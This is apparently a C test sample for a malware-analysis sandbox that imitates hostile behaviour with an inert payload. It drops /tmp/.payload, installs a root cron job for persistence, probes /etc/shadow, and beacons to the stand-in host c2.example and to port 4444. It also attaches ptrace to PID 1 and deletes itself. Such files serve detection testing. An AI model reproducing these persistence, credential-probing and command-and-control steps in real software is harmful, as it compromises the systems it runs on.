/* Does, harmlessly and within the sandbox alone, what the analysis is to see. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <netdb.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

static void say(const char *address, int port, const char *text) {
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(port)};
    inet_pton(AF_INET, address, &to.sin_addr);
    int line = socket(AF_INET, SOCK_STREAM, 0);
    char answer[64];
    if (connect(line, (struct sockaddr *)&to, sizeof to) == 0) {
        write(line, text, strlen(text));
        read(line, answer, sizeof answer);
    }
    close(line);
}

int main(void) {
    int dropped = open("/tmp/.payload", O_CREAT | O_WRONLY, 0755);
    write(dropped, "#!/bin/sh\nexit 0\n", 17);
    fchmod(dropped, 0755);
    close(dropped);
    int job = open("/etc/cron.d/update", O_CREAT | O_WRONLY, 0644);
    write(job, "* * * * * root /tmp/.payload\n", 29);
    close(job);
    int shadow = open("/etc/shadow", O_RDONLY);
    if (shadow >= 0) return 3;
    struct hostent *found = gethostbyname("c2.example");
    if (found) {
        char text[INET_ADDRSTRLEN];
        inet_ntop(AF_INET, found->h_addr_list[0], text, sizeof text);
        say(text, 80, "GET /gate?id=7 HTTP/1.1\r\nHost: c2.example\r\n\r\n");
    }
    say("203.0.113.5", 4444, "hello there");
    mount("none", "/mnt", "tmpfs", 0, NULL);
    unshare(CLONE_NEWUSER);
    ptrace(PTRACE_ATTACH, 1, 0, 0);
    memfd_create("code", 0);
    if (fork() == 0) execl("/tmp/.payload", "payload", "--quiet", NULL);
    sleep(1);
    unlink("/sample/sample");
    return 7;
}
